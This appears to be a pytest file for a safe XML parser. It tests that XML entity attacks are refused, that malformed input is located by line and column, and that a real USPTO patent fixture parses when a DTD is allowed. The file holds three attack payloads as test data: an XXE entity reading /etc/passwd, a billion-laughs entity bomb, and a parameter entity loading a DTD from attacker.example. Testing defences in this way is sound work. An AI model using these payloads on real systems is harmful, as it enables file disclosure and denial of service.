"""Safe XML parsing: attacks refused, faults located, real documents read."""

from __future__ import annotations

from pathlib import Path

import pytest

from sangtao.standards import (
    DEFAULT_MAX_XML_BYTES,
    MalformedXmlError,
    UnsafeXmlError,
    XmlError,
    ipc_scheme,
    parse_xml,
)

FIXTURES = Path(__file__).parent / "fixtures"

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<foo>&xxe;</foo>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>"""

EXTERNAL_PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<r/>"""


def test_well_formed_xml_returns_the_root_element():
    root = parse_xml("<đơn số='1-2026-00001'><tên>Động cơ</tên></đơn>".encode())
    assert root.tag == "đơn"
    assert root.get("số") == "1-2026-00001"
    assert root.findtext("tên") == "Động cơ"


@pytest.mark.parametrize("allow_dtd", [False, True])
@pytest.mark.parametrize("payload", [EXTERNAL_ENTITY, BILLION_LAUGHS, EXTERNAL_PARAMETER_ENTITY])
def test_entity_attacks_are_refused_even_when_a_dtd_is_allowed(payload, allow_dtd):
    with pytest.raises(UnsafeXmlError) as info:
        parse_xml(payload, allow_dtd=allow_dtd)
    assert isinstance(info.value, XmlError)
    assert isinstance(info.value, ValueError)


def test_a_document_type_declaration_is_refused_by_default():
    with pytest.raises(UnsafeXmlError, match="document type"):
        parse_xml(b'<!DOCTYPE a SYSTEM "a.dtd"><a/>')


def test_a_real_uspto_grant_with_its_doctype_is_read_when_allowed():
    data = (FIXTURES / "US08930553.xml").read_bytes()
    with pytest.raises(UnsafeXmlError):
        parse_xml(data)
    root = parse_xml(data, allow_dtd=True)
    assert root.tag == "us-patent-grant"
    assert root.findtext(".//publication-reference/document-id/doc-number") == "08930553"
    ipcr = root.find(".//classification-ipcr")
    assert ipcr is not None
    parts = [ipcr.findtext(t) for t in ("section", "class", "subclass", "main-group", "subgroup")]
    symbol = "{}{}{} {}/{}".format(*parts)
    assert ipc_scheme().lookup(symbol).symbol == "G06F 15/16"


def test_malformed_xml_reports_line_and_column():
    with pytest.raises(MalformedXmlError) as info:
        parse_xml(b"<a>\n  <b>\n</a>\n")
    assert info.value.line == 3
    assert info.value.column is not None
    assert "line 3" in str(info.value)


@pytest.mark.parametrize("data", [b"", b"not xml", b"<a>&undefined;</a>", b"<a></b>"])
def test_other_faults_are_malformed(data):
    with pytest.raises(MalformedXmlError):
        parse_xml(data)


def test_size_is_capped_before_parsing():
    assert DEFAULT_MAX_XML_BYTES == 32 * 1024 * 1024
    data = b"<a>" + b"x" * 100 + b"</a>"
    assert parse_xml(data, max_bytes=len(data)).text == "x" * 100
    with pytest.raises(UnsafeXmlError, match="exceeds"):
        parse_xml(data, max_bytes=len(data) - 1)


def test_text_is_not_accepted_in_place_of_bytes():
    with pytest.raises(TypeError):
        parse_xml("<a/>")  # type: ignore[arg-type]
